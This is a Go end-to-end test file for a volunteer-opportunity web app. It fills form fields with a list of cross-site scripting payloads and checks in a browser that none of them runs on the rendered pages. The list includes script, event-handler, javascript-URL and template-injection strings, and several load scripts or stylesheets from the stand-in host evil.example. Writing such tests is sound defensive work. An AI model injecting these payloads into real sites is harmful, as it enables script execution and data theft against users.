package e2e

import (
	"maps"
	"slices"
	"strings"
	"testing"

	"asar/internal/core/opportunity"
	"asar/internal/core/org"
	"asar/internal/kit/auth"
	"asar/internal/kit/db"
	"asar/internal/kit/i18n"
	"asar/internal/kit/when"
)

// payloads are texts that act if a page takes them for more than words.
var payloads = []string{
	`<script>pwned=1</script>`, `<ScRiPt >pwned=1</sCrIpT >`, `"><script>pwned=1</script>`, `'><script src=//evil.example/x.js></script>`,
	`<img src=x onerror=pwned=1>`, `"><img src=x onerror="pwned=1">`, `<svg onload=pwned=1>`, `<svg><script>pwned=1</script></svg>`,
	`<body onload=pwned=1>`, `<iframe srcdoc="<script>parent.pwned=1</script>">`, `<iframe src="javascript:parent.pwned=1">`, `<a href="javascript:pwned=1">x</a>`,
	`<a href=" &#14; javascript:pwned=1">x</a>`, `<form action="javascript:pwned=1"><button autofocus>x</button></form>`, `<input autofocus onfocus=pwned=1>`,
	`<details open ontoggle=pwned=1>`, `<video><source onerror=pwned=1></video>`, `<object data="data:text/html,<script>pwned=1</script>"></object>`,
	`<embed src="//evil.example/">`, `<link rel=stylesheet href=//evil.example/x.css>`, `<style>@import '//evil.example/x.css';</style>`, `<style>*{background:url(//evil.example/)}</style>`,
	`<meta http-equiv=refresh content="0;url=//evil.example/">`, `<base href="//evil.example/">`, `</title><script>pwned=1</script>`, `</textarea><script>pwned=1</script>`,
	`</script><script>pwned=1</script>`, `</style><script>pwned=1</script>`, `--><script>pwned=1</script>`, `]]><script>pwned=1</script>`, `" onmouseover="pwned=1" x="`, `' onfocus='pwned=1' autofocus='`,
	"`${pwned=1}`", `{{constructor.constructor('pwned=1')()}}`, `javascript:pwned=1//`, `&lt;script&gt;pwned=1&lt;/script&gt;`, `&#60;script&#62;pwned=1&#60;/script&#62;`, `\u003cscript\u003epwned=1\u003c/script\u003e`,
	`<math><mtext></form><form><mglyph><style></math><img src onerror=pwned=1>`, `<noscript><p title="</noscript><img src=x onerror=pwned=1>">`, `%3Cscript%3Epwned=1%3C/script%3E`,
}

// words cuts the payloads, in all languages, to what a field takes.
func words(from, most int) i18n.Words {
	var text strings.Builder
	for i := range payloads {
		if next := payloads[(from+i)%len(payloads)]; text.Len()+len(next) < most {
			text.WriteString(next + " ")
		}
	}
	return i18n.Words{Kk: text.String(), Ru: text.String(), En: text.String()}
}

// TestWordsStayWords fills what people type with payloads and reads the pages
// that show it: nothing runs, the policy has nothing to stop, and nobody else's
// server is asked for anything.
func TestWordsStayWords(t *testing.T) {
	t.Parallel()
	w, b := small(t, "sqlite:"+t.TempDir()+"/asar.db"), chromium(t)
	day := w.tomorrow()
	for n := range len(payloads)/4 + 1 {
		w.infest(t, n*4, day.AddDays(n))
	}
	read := 0
	for _, r := range []role{{name: "visitor"}, {name: "coordinator", email: emailOf(1), start: "/org/" + w.host.ID.String() + "/opportunities"}} {
		walk := newWalk(t, w.site, r, i18n.Ru)
		walk.run()
		p := b.open(t, w.site, desk, walk.token)
		for _, address := range slices.Sorted(maps.Keys(walk.seen)) {
			if path, ours := walk.strip(strings.SplitN(address, "?", 2)[0]); !ours || walk.files[pattern(walk.routes, "GET", path)] || strings.Contains(address, "/preferences/") {
				continue
			}
			if read++; read > 150 {
				break
			}
			p.get(address)
			if ask[bool](p, `window.pwned === 1 || !!document.querySelector('main script, main iframe, main object, main embed, main style, [onerror], [onload]')`) {
				t.Errorf("%s as %s: a payload acts", address, r.name)
			}
			for _, odd := range p.strange() {
				t.Errorf("%s as %s: %s", address, r.name, odd)
			}
		}
	}
	if read < 30 {
		t.Errorf("only %d pages were read", read)
	}
	t.Logf("%d payloads on %d pages", len(payloads), read)
}

// infest makes an opportunity and a group whose every word is a payload.
func (w *town) infest(t *testing.T, from int, day when.Day) {
	t.Helper()
	f := opportunity.Blank(i18n.Ru)
	f.Title, f.What, f.Why, f.Requirements, f.Safety, f.Meeting = words(from, 120), words(from, 1500), words(from+1, 1500), words(from+2, 1500), words(from+3, 1500), words(from, 200)
	f.Directions, f.Region, f.Place, f.Lat, f.Lon = []string{"sabaqtastyq"}, "kz-35", words(from+1, 80).Ru, 50_054_900, 72_964_600
	f.LeaderName, f.LeaderPhone, f.RisksStated, f.Ends = words(from+2, 90).Ru, "+77012345678", true, day
	w.write(func(tx *db.Tx) error {
		o, err := w.Opportunities.Draft(tx, w.coordinator, w.host.ID, f)
		if err != nil {
			return err
		}
		one, err := opportunity.OneShift(day, "10:00", "14:00", 6)
		if err != nil {
			return err
		}
		if _, err := w.Opportunities.AddShifts(tx, w.coordinator, o.ID, []opportunity.ShiftForm{one}); err != nil {
			return err
		}
		if err := w.Opportunities.Publish(tx, w.coordinator, o.ID); err != nil {
			return err
		}
		g, err := w.Orgs.Create(tx, w.coordinator, org.New{
			Kind: org.Group, Name: words(from, 90), About: words(from, 1500), Region: "kz-35", Place: words(from+1, 80).Ru, Leader: words(from+2, 80).Ru, Email: "g@asar.example",
		})
		if err != nil {
			return err
		}
		if err := w.Orgs.Decide(tx, auth.System(), g.ID, org.Decision{State: org.Verified, Until: day.AddDays(200)}); err != nil {
			return err
		}
		return w.Orgs.Decide(tx, auth.System(), g.ID, org.Decision{State: org.Suspended, Reason: words(from, 1000).Ru})
	})
}
